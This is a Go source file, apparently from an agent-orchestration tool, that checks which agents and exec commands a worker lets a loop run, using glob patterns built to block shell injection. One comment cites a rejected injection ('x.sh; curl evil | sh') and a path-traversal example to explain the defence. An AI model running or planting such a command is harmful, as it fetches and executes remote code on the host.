package durable

import (
	"errors"
	"fmt"
	"slices"
	"strings"

	"go.temporal.io/sdk/workflow"

	"github.com/aot-loop/aot/internal/agent"
	"github.com/aot-loop/aot/internal/backend"
	"github.com/aot-loop/aot/internal/engine"
)

// A worker runs only its own agents: those of its flags and agents file.
// A loop names one of them by its backend (claude, codex, exec, ...) for
// every role or per role, and may pick the model; an exec command the
// worker does not have runs only where the worker allows loops to bring
// commands (Allow). Anything else is refused: the attempt fails with a
// RefusedError's reason and the loop stops with it (Loop).

// Allow is what a worker lets loops bring besides its own agents: any
// command (aot worker --allow-loop-commands), or those matching one of
// Patterns (--allow-loop-command).
type Allow struct {
	Any      bool
	Patterns []string
}

// Command reports whether a loop may run cmd as its exec agent.
func (a Allow) Command(cmd string) bool {
	cmd = strings.TrimSpace(cmd)
	if a.Any {
		return cmd != ""
	}
	return slices.ContainsFunc(a.Patterns, func(p string) bool { return matchCommand(strings.TrimSpace(p), cmd) })
}

// CheckPattern refuses a pattern that would match nothing.
func CheckPattern(p string) error {
	if strings.TrimSpace(p) == "" {
		return errors.New("an empty pattern matches no command")
	}
	return nil
}

// matchCommand matches a whole command line against a pattern: '*' stands
// for a run of word characters (letters, digits and - _ . , : @ % + =),
// '?' for one of them, anything else for itself. A star never crosses a
// space, a slash or a shell character, so a pattern lets a loop pick a
// script in a folder or a word argument, never add a command of its own
// ("/opt/agents/*.sh" matches "/opt/agents/fix.sh", not
// "/opt/agents/x.sh; curl evil | sh" nor "/opt/agents/../../bin/sh").
func matchCommand(pattern, cmd string) bool {
	if pattern == "" {
		return cmd == ""
	}
	switch pattern[0] {
	case '*':
		for i := 0; ; i++ {
			if matchCommand(pattern[1:], cmd[i:]) {
				return true
			}
			if i == len(cmd) || !wordByte(cmd[i]) {
				return false
			}
		}
	case '?':
		return cmd != "" && wordByte(cmd[0]) && matchCommand(pattern[1:], cmd[1:])
	}
	return cmd != "" && cmd[0] == pattern[0] && matchCommand(pattern[1:], cmd[1:])
}

func wordByte(b byte) bool {
	return b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9' || strings.IndexByte("-_.,:@%+=", b) >= 0
}

// RefusedError is a loop's choice of agent that a worker does not run.
type RefusedError struct {
	What string // `the command "sh x.sh"`, `the codex agent`
	Why  string
}

func (e *RefusedError) Error() string { return "refused " + e.What + ": " + e.Why }

// allowHint says how a worker lets loops bring commands.
const allowHint = "aot worker --allow-loop-command PATTERN or --allow-loop-commands lets loops bring their own"

// ChooseAgent is the agent a worker runs for role when a loop chose ch;
// own is the worker's agents (its agents file with its flags applied).
// The loop's backend for the role (ch.Roles, else ch.Agent) must be one
// the worker has, for some role, and comes with the worker's settings
// for it (binary, arguments, endpoint, command); the loop's model
// replaces the worker's. The loop's exec command is taken when it is one
// of the worker's own or allow lets it in.
func ChooseAgent(own backend.Config, allow Allow, ch AgentChoice, role agent.Role) (backend.Spec, error) {
	name, model := ch.Agent, ch.Model
	if v, ok := ch.Roles[string(role)]; ok {
		var m string
		name, m, _ = strings.Cut(v, ":")
		if m != "" || name != ch.Agent {
			model = m
		}
	}
	s := own.For(role)
	if name != "" && name != s.Agent {
		var ok bool
		if s, ok = ownSpec(own, name); !ok {
			if name != "exec" {
				return backend.Spec{}, &RefusedError{What: "the " + name + " agent", Why: "this worker runs " + ownAgents(own) + " (aot worker --agent, --role, --agents-file)"}
			}
			s = backend.Spec{Agent: "exec"}
		}
	}
	if model != "" {
		s.Model = model
	}
	if s.Agent != "exec" {
		return s, nil
	}
	if cmd := strings.TrimSpace(ch.Command); cmd != "" && cmd != strings.TrimSpace(s.Command) {
		if !slices.Contains(ownCommands(own), cmd) && !allow.Command(cmd) {
			return backend.Spec{}, &RefusedError{What: fmt.Sprintf("the command %q", cmd),
				Why: "it is not this worker's own (aot worker --agent-command, --agents-file) and no pattern allows it; " + allowHint}
		}
		s.Command = cmd
	}
	if strings.TrimSpace(s.Command) == "" {
		return backend.Spec{}, &RefusedError{What: "the exec agent of the " + string(role) + " role",
			Why: "this worker has no command of its own (aot worker --agent-command, --agents-file) and the loop brought none"}
	}
	return s, nil
}

// ownSpec is the worker's setting of backend name: the default's, else
// the first role's that names it.
func ownSpec(own backend.Config, name string) (backend.Spec, bool) {
	for _, r := range append([]agent.Role{""}, agent.Roles...) {
		if s := own.For(r); s.Agent == name && (name != "exec" || strings.TrimSpace(s.Command) != "") {
			return s, true
		}
	}
	return backend.Spec{}, false
}

// ownAgents names the backends the worker has, for a refusal.
func ownAgents(own backend.Config) string {
	var names []string
	for _, r := range agent.Roles {
		if s := own.For(r); !slices.Contains(names, s.Agent) && (s.Agent != "exec" || strings.TrimSpace(s.Command) != "") {
			names = append(names, s.Agent)
		}
	}
	if len(names) == 0 {
		return "no agent of its own"
	}
	return "only " + strings.Join(names, ", ")
}

// ownCommands are the worker's exec commands, every role's.
func ownCommands(own backend.Config) []string {
	var out []string
	for _, r := range agent.Roles {
		if s := own.For(r); s.Agent == "exec" && strings.TrimSpace(s.Command) != "" {
			out = append(out, strings.TrimSpace(s.Command))
		}
	}
	return out
}

// refused stops the loop when a worker refused its choice of agent:
// every worker of the queue would, so no retry can mend it. Workflows
// started before refusals existed replay without the stop.
func (l *loop) refused(r AttemptResult) {
	if r.Refused && workflow.GetVersion(l.ctx, "agent-refused", workflow.DefaultVersion, 1) >= 1 {
		l.core.Halt(engine.Failed, r.Reason)
	}
}
